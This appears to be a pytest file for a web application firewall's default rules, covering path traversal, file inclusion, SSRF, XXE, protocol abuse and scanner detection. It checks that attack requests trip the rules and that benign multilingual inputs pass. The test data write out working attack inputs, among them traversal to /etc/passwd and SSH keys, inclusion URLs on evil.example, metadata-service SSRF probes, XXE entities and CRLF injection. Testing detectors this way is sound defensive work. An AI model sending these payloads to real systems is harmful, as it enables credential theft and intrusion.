"""Default rules for paths and protocol: LFI/traversal, RFI, SSRF/XXE, protocol abuse, scanners.

Each attack below is a representative of a family (not a corpus test string), run through the
same request parser as the middlewares; each benign request is something real users and API
clients send, in several languages, which must not trip these families.
"""

from __future__ import annotations

import json
import os
from urllib.parse import quote

import pytest

from bastion.addresses import request_addresses
from bastion.waf import load_ruleset

# The bundled default.json; BASTION_TEST_RULES points at a locally built file instead.
RULES = load_ruleset(os.environ.get("BASTION_TEST_RULES"))
FAMILIES = ("bst-lfi-", "bst-rfi-", "bst-ssrf-", "bst-xxe-", "bst-proto-", "bst-scan-")
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"


def fired(method: str, target: str, headers: dict[str, str] | None = None, body: bytes = b"") -> list[str]:
    all_headers = {"host": "shop.example.com", "user-agent": BROWSER, "accept": "*/*"}
    all_headers.update(headers or {})
    addresses = request_addresses(method, target, all_headers.items(), body, "203.0.113.7")
    result = RULES.context().run(addresses, timeout_us=1_000_000)
    return [event["rule"]["id"] for event in result.events]


def ours(ids: list[str]) -> list[str]:
    return [i for i in ids if i.startswith(FAMILIES)]


def form(**fields: str) -> tuple[dict[str, str], bytes]:
    body = "&".join(f"{k}={quote(v)}" for k, v in fields.items()).encode()
    return {"content-type": "application/x-www-form-urlencoded"}, body


ATTACK_QUERIES = [
    # traversal, plain and encoded
    "file=../../../../etc/passwd",
    "page=..%2F..%2F..%2F..%2Fwindows%2Fwin.ini",
    "doc=%252e%252e%252f%252e%252e%252fetc%252fshadow",
    "f=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
    "tpl=....//....//....//etc/hosts",
    "lang=..\\..\\..\\web.config",
    "img=..;/..;/WEB-INF/web.xml",
    # sensitive files and dotfiles
    "path=/proc/self/environ",
    "read=C:\\Windows\\System32\\drivers\\etc\\hosts",
    "f=/home/deploy/.ssh/id_rsa",
    "conf=../.env",
    "key=~/.aws/credentials",
    # remote inclusion and wrappers
    "page=http://198.51.100.23/shell.txt?",
    "mosConfig_absolute_path=http://evil.example/x.txt",
    "template=https://evil.example/r57.php",
    "inc=php://filter/convert.base64-encode/resource=index.php",
    "src=expect://id",
    "u=gopher://127.0.0.1:6379/_FLUSHALL",
    "next=https://trusted.example@evil.example/",
    # SSRF
    "url=http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "webhook=http://metadata.google.internal/computeMetadata/v1/",
    "target=http://2130706433/admin",
    "target=http://0x7f000001:8080/",
    "target=http://[::1]/",
    "feed=http://localhost:6379/",
    "feed=http://10.0.0.12/internal",
    "host=kubernetes.default.svc/api",
    # protocol abuse
    "lang=en%0d%0aSet-Cookie:%20admin=1",
    "next=%0d%0a%0d%0a<html><script>alert(1)</script>",
    "a=x%0aGET%20/admin%20HTTP/1.1",
    "name=admin)(|(uid=*",
]


@pytest.mark.parametrize("query", ATTACK_QUERIES)
def test_attack_in_query_fires(query: str) -> None:
    assert ours(fired("GET", "/app?" + query)), query


ATTACK_PATHS = [
    "/.git/config",
    "/.env",
    "/.aws/credentials",
    "/app/.vscode/sftp.json",
    "/wp-config.php.bak",
    "/backup/db.sql.gz",
    "/wp-content/debug.log",
    "/index.php~",
    "/static/%2e%2e/%2e%2e/etc/passwd",
    "/download/..%c0%af..%c0%afetc/passwd",
    "/WEB-INF/web.xml",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
    "/foo%0d%0aSet-Cookie:x=1",
]


@pytest.mark.parametrize("path", ATTACK_PATHS)
def test_attack_in_path_fires(path: str) -> None:
    assert ours(fired("GET", path)), path


def test_traversal_in_body_cookie_and_header_fires() -> None:
    headers, body = form(file="../../../../etc/shadow")
    assert ours(fired("POST", "/upload", headers, body))
    assert ours(fired("GET", "/", {"cookie": "lang=../../../../proc/self/environ"}))
    assert ours(fired("GET", "/", {"x-file": "/etc/passwd"}))
    json_body = json.dumps({"avatar": {"url": "http://169.254.169.254/latest/user-data"}}).encode()
    assert ours(fired("POST", "/api/profile", {"content-type": "application/json"}, json_body))


def test_upload_file_name_traversal_fires() -> None:
    body = (b'--B\r\nContent-Disposition: form-data; name="f"; filename="../../app/views/x.php"\r\n'
            b"Content-Type: text/plain\r\n\r\n<?php ?>\r\n--B--\r\n")
    assert ours(fired("POST", "/upload", {"content-type": "multipart/form-data; boundary=B"}, body))


def test_xxe_fires() -> None:
    xml = (b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
           b"<r>&x;</r>")
    assert ours(fired("POST", "/api/import", {"content-type": "application/xml"}, xml))
    oob = b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]><r/>'
    assert ours(fired("POST", "/soap", {"content-type": "text/xml"}, oob))


@pytest.mark.parametrize("headers", [
    {"content-length": "10", "transfer-encoding": "chunked"},
    {"transfer-encoding": "chunked, identity-x"},
    {"content-length": "10, 12"},
    {"request-range": "bytes=0-1,2-3"},
    {"content-type": "application/x-www-form-urlencoded; charset=ibm037"},
    {"content-type": 'application/x-www-form-urlencoded; boundary="application/json"'},
    {"referer": "https://shop.example.com/%00"},
    {"x-forwarded-host": "a%0d%0aX-Injected: 1"},
])
def test_protocol_abuse_in_headers_fires(headers: dict[str, str]) -> None:
    assert ours(fired("POST", "/api/x", headers, b"a=1")), headers


@pytest.mark.parametrize("method", ["TRACE", "TRACK", "DEBUG", "FOOBAR", "GET|POST"])
def test_unexpected_method_fires(method: str) -> None:
    assert ours(fired(method, "/"))


@pytest.mark.parametrize("agent", [
    "sqlmap/1.8.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
    "gobuster/3.6",
    "Fuzz Faster U Fool v2.1.0",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 zgrab/0.x",
])
def test_scanner_user_agents_fire(agent: str) -> None:
    assert ours(fired("GET", "/", {"user-agent": agent}))


def test_out_of_band_domain_fires() -> None:
    assert ours(fired("GET", "/?u=http://abc123.oastify.com/"))
    assert ours(fired("GET", "/", {"acunetix-product": "WVS/14"}))


# ---------------------------------------------------------------- benign

BENIGN_VALUES = [
    "../images/a.png", "../../assets/logo.svg", "./config/settings.json", "images/2024/05/photo.jpg",
    "C:\\Users\\me\\Documents\\report.docx", "\\\\fileserver\\share\\plan.xlsx", "~/Downloads/file.txt",
    "https://example.com/etc/catalog", "https://shop.example.com/proc/checkout?step=2",
    "https://accounts.example.com/oauth/authorize?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb",
    "http://foo:bar@example.com/", "https://example.com/", "git@github.com:user/repo.git",
    "s3://bucket/path/object.txt", "mailto:info@example.com", "data:image/png;base64,iVBORw0KGgo=",
    "Bonjour, où se trouve le fichier de configuration ?", "Ich möchte mein Passwort zurücksetzen.",
    "Файл находится в папке ../документы/отчёт.pdf", "请把文件放到 D:\\资料\\2024 文件夹里",
    "ファイルは../画像/写真.jpgにあります", "東京都渋谷区神南１－２－３（ビル５Ｆ）", "안녕하세요, 주문 확인",
    "مرحبا، أريد معرفة حالة طلبي", "my .env file is not loaded", "what does .htaccess do",
    "where is id_rsa.pub stored", "Smiley :) (happy face)", "(a+b)*c", "f(x) = (x+1)(x-1)",
    "user@example.com", "12:30:45", "100% cotton, 50% off", "Loading...", "And so on... / etc.",
    "server=localhost", "localhost", "192.168.1.1 is my router", "10.0.0.0/8", "Order #2130706433",
    "GET / HTTP/1.1 is the request line", "Location: Paris", "Use Content-Type: application/json",
    "is http or https better?", "which file?", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.SflKxwRJSMeKKF2QT4fw",
    "Tom's CV (final).pdf", "R&D report.pdf", "backup.zip", "my-app.log shows errors",
    "require('../../lib/util')", "<img src=\"../images/banner.png\">", "1.2.840.113556.1.4.803",
]


@pytest.mark.parametrize("value", BENIGN_VALUES)
def test_benign_values_pass(value: str) -> None:
    assert not ours(fired("GET", "/search?q=" + quote(value) + "&page=2")), value
    headers, body = form(comment=value)
    assert not ours(fired("POST", "/comment", headers, body)), value
    json_body = json.dumps({"title": value, "meta": {"note": value}}).encode()
    assert not ours(fired("POST", "/api/items", {"content-type": "application/json"}, json_body)), value


BENIGN_PATHS = [
    "/", "/.well-known/openid-configuration", "/.well-known/acme-challenge/abc123",
    "/blog/2024/05/hello-world", "/wp-content/uploads/2024/05/image.jpg", "/~user/file.txt",
    "/assets/fonts/Inter.ttf", "/jquery.history.min.js", "/api/continue/session", "/get/foo../1234",
    "/get/..foo", "/changelog", "/sitemap.xml", "/zh/%E4%BA%A7%E5%93%81/%E6%89%8B%E6%9C%BA",
    "/path%20with%20space/index.html", "/download/setup.exe", "/files/report.pdf",
]


@pytest.mark.parametrize("path", BENIGN_PATHS)
def test_benign_paths_pass(path: str) -> None:
    assert not ours(fired("GET", path)), path


@pytest.mark.parametrize("agent", [
    "curl/8.5.0", "python-requests/2.31.0", "Go-http-client/1.1", "python-httpx/0.27.0",
    "okhttp/4.12.0", "PostmanRuntime/7.36.0", "Wget/1.21.4", "urlgrabber/3.10 yum/3.4.3",
    "mozilla/5.0 ecairn-grabber/1.0 (+http://ecairn.com/grabber)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
])
def test_api_clients_and_crawlers_pass(agent: str) -> None:
    assert not ours(fired("GET", "/api/items?limit=10", {"user-agent": agent}))


@pytest.mark.parametrize("method", ["GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "HEAD", "PROPFIND"])
def test_standard_methods_pass(method: str) -> None:
    assert not ours(fired(method, "/api/items/1", {"content-length": "0"}))


def test_svg_upload_with_doctype_and_internal_entities_passes() -> None:
    svg = (b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" '
           b'"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns_svg "http://www.w3.org/2000/svg">]>'
           b'<svg xmlns="&ns_svg;"></svg>')
    body = (b'--B\r\nContent-Disposition: form-data; name="f"; filename="C:\\Users\\Anna\\logo.svg"\r\n'
            b"Content-Type: image/svg+xml\r\n\r\n" + svg + b"\r\n--B--\r\n")
    assert not ours(fired("POST", "/upload", {"content-type": "multipart/form-data; boundary=B"}, body))


def test_binary_upload_with_nul_bytes_passes() -> None:
    body = (b'--B\r\nContent-Disposition: form-data; name="f"; filename="photo (2).JPG"\r\n'
            b"Content-Type: image/jpeg\r\n\r\n\xff\xd8\xff\x00\x00\x10JFIF\x00\r\n--B--\r\n")
    assert not ours(fired("POST", "/upload", {"content-type": "multipart/form-data; boundary=B"}, body))


def test_normal_browser_headers_pass() -> None:
    headers = {
        "accept-language": "fr-FR,fr;q=0.9,en-US;q=0.8", "accept-encoding": "gzip, deflate, br",
        "referer": "https://shop.example.com/catalog?page=2&next=%2Fcart", "sec-ch-ua": '"Chromium";v="124"',
        "cookie": "session=3f2a9c1e8b7d4a60; theme=dark; cart=%7B%22items%22%3A%5B1%2C2%5D%7D",
        "content-type": "application/x-www-form-urlencoded; charset=UTF-8", "transfer-encoding": "chunked",
    }
    assert not ours(fired("POST", "/cart/add", headers, b"item=42&qty=1"))
